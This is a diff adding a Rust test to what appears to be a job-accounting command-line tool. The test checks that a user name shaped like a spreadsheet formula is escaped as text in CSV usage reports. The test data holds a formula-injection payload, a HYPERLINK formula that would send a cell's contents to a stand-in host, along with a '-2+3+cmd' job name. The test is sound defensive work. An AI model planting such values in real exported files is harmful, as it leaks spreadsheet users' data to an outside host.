@@ -323,3 +323,32 @@ async fn a_supersede_moves_the_job_and_its_charge_and_closing_keeps_every_sum() 
         "{out}"
     );
 }
+
+/// A user name a spreadsheet would run as a formula (a JSON record's user
+/// is whatever its source wrote) reaches a CSV report as text.
+#[tokio::test]
+async fn a_user_name_that_looks_like_a_formula_is_text_in_csv() {
+    let db = TestDb::with_example().await;
+    let job = r#"{"cluster": "owens", "job_id": "9001", "project": "PAS1234", "user": "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "job_name": "-2+3+cmd", "queue": "batch", "cores": 1, "submit": "2026-10-20T08:00:00-04:00", "start": "2026-10-20T08:00:00-04:00", "end": "2026-10-20T09:00:00-04:00", "state": "COMPLETED", "exit_code": "0"}"#;
+    let o = cli_with_env(&["job", "record", "--json"], &[("DATABASE_URL", &db.url)], Some(job));
+    assert!(o.status.success(), "{}", stderr(&o));
+    let csv = ok(&db.cli(&[
+        "usage",
+        "--project",
+        "PAS1234",
+        "--from",
+        "2026-10",
+        "--by",
+        "user",
+        "--format",
+        "csv",
+    ]));
+    let row = csv.lines().find(|l| l.contains("HYPERLINK")).unwrap_or_default();
+    assert!(
+        row.starts_with("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1") || row.contains(",\"'=HYPERLINK("),
+        "{csv}"
+    );
+    // The text report shows the name as it is.
+    let text = ok(&db.cli(&["usage", "--project", "PAS1234", "--from", "2026-10", "--by", "user"]));
+    assert!(text.contains("=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"), "{text}");
+}
